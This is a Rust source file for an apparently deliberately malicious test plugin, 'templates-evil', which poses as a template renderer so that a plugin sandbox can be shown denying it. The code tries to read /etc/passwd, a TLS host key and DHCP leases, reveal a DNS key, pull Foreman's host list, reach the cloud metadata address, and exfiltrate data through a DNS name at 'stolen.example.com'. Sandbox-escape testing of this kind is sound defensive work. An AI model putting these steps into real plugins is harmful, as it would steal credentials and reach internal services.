//! `templates-evil`: a feature whose author means harm, to see it fail.
//!
//! It looks like what renders templates for the public. `GET /templates-evil/attempts` makes it try to get at everything a Smart Proxy is trusted
//! with, and answers one line an attempt. `GET /templates-evil/sent/SLOT` has the host itself send a file, which is the other way to read one.
//! Every need is optional, so it runs without a single grant: `bulkhead policy explain templates-evil` then shows what it asked
//! for and how often it was denied.

use std::fmt::Display;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use bulkhead_sdk::http::Outgoing;
use bulkhead_sdk::prelude::*;

struct Evil;

/// What it would like to read: slot, path, what it is.
const FILES: [(&str, &str, &str); 4] = [
    ("leases", "/leases/dhcpd.leases", "the DHCP leases"),
    (
        "tftproot",
        "/tftproot/pxelinux.cfg/default",
        "the TFTP root",
    ),
    (
        "host-keys",
        "/host-keys/server-key.pem",
        "the host's TLS key",
    ),
    ("system", "/etc/passwd", "/etc/passwd"),
];

/// The settings say where the doors are; what is behind them is not the plugin's to choose.
const DOORS: [(&str, &str, &str); 3] = [
    (
        "metadata",
        "169.254.169.254:80",
        "the cloud's metadata address",
    ),
    ("admin", "127.0.0.1:9180", "the admin listener"),
    ("omapi", "127.0.0.1:7911", "the DHCP server's OMAPI port"),
];

impl Plugin for Evil {
    fn describe() -> Manifest {
        let mut manifest = Manifest::new(
            "templates-evil",
            env!("CARGO_PKG_VERSION"),
            "Renders templates, says its author",
        )
        .mount("/templates-evil")
        .route(get("/templates-evil/attempts"), |_: &Request| attempts())
        .route(get("/templates-evil/sent/:slot"), |request: &Request| {
            let slot = request.text("slot").unwrap_or_default();
            let name = FILES
                .iter()
                .find(|(known, ..)| *known == slot)
                .and_then(|(_, path, _)| path.rsplit('/').next())
                .unwrap_or("passwd");
            Answer::file(slot, name)
        })
        .setting(Setting::text("admin", "Where the admin listener is").default("127.0.0.1:9180"))
        .need(Need::foreman("foreman", "reads all hosts and their passwords").optional())
        .need(Need::store("others", Access::ReadWrite, "reads what others keep").optional())
        .need(Need::secret_revealed("dns-key", "would sign DNS updates").optional())
        .need(Need::names("names", "carries data out in questions").optional());
        for (slot, _, what) in FILES {
            manifest = manifest.need(Need::files(slot, Access::Read, what).optional());
        }
        for (slot, _, what) in DOORS {
            manifest = manifest.need(Need::tcp(slot, what).optional());
        }
        manifest
    }
}

bulkhead_sdk::export_feature!(Evil);

fn attempts() -> String {
    let mut lines = String::new();
    let mut told = |what: &str, outcome| lines.push_str(&line(what, outcome));
    for (_, path, what) in FILES {
        told(what, std::fs::read_to_string(path).map_err(text));
    }
    told(
        "another plugin's keys",
        store::scan("others", "", None, 10)
            .map(|keys| format!("{} keys", keys.len()))
            .map_err(|error| store::describe(&error)),
    );
    told(
        "a DNS key",
        secrets::reveal("dns-key")
            .map(|key| format!("{} bytes", key.len()))
            .map_err(|error| format!("{error:?}")),
    );
    told(
        "Foreman's API",
        foreman::send(&Outgoing::new("foreman", "GET", "/api/v2/hosts"))
            .map(|answer| answer.status().to_string())
            .map_err(text),
    );
    told(
        "a name that carries data",
        std::net::ToSocketAddrs::to_socket_addrs(&("stolen.example.com", 53))
            .map(|_| "resolved".to_owned())
            .map_err(text),
    );
    for (slot, address, what) in DOORS {
        let address = match slot {
            "admin" => settings::text("admin").unwrap_or_else(|| address.to_owned()),
            _ => address.to_owned(),
        };
        told(what, knock(&address).map_err(text));
    }
    lines
}

/// One line an attempt, whatever came of it.
fn line(what: &str, outcome: Result<String, String>) -> String {
    match outcome {
        Ok(got) => {
            let first: String = got
                .lines()
                .next()
                .unwrap_or_default()
                .chars()
                .take(60)
                .collect();
            format!("{what}: GOT IT: {first}\n")
        }
        Err(why) => format!(
            "{what}: denied ({})\n",
            why.lines().next().unwrap_or_default()
        ),
    }
}

fn knock(address: &str) -> std::io::Result<String> {
    let mut stream = TcpStream::connect(address)?;
    stream.set_read_timeout(Some(Duration::from_secs(2)))?;
    stream.write_all(b"GET / HTTP/1.0\r\n\r\n")?;
    let mut answer = [0; 64];
    let length = stream.read(&mut answer)?;
    Ok(format!("{length} bytes"))
}

fn text(error: impl Display) -> String {
    error.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn it_asks_for_everything_and_needs_nothing() {
        let manifest = Evil::describe();
        assert_eq!(manifest.record().needs.len(), 11);
        assert!(manifest.record().needs.iter().all(|need| !need.required));
    }

    /// The attempts themselves are made in the sandbox only (`tests/escape/example.rs`): natively they would reach this machine.
    #[test]
    fn one_line_an_attempt() {
        let got = line("/etc/passwd", Ok("root:x:0:0\ndaemon:x:1:1".into()));
        assert_eq!(got, "/etc/passwd: GOT IT: root:x:0:0\n");
        let denied = line("a key", Err("not granted\nsee the log".into()));
        assert_eq!(denied, "a key: denied (not granted)\n");
    }
}
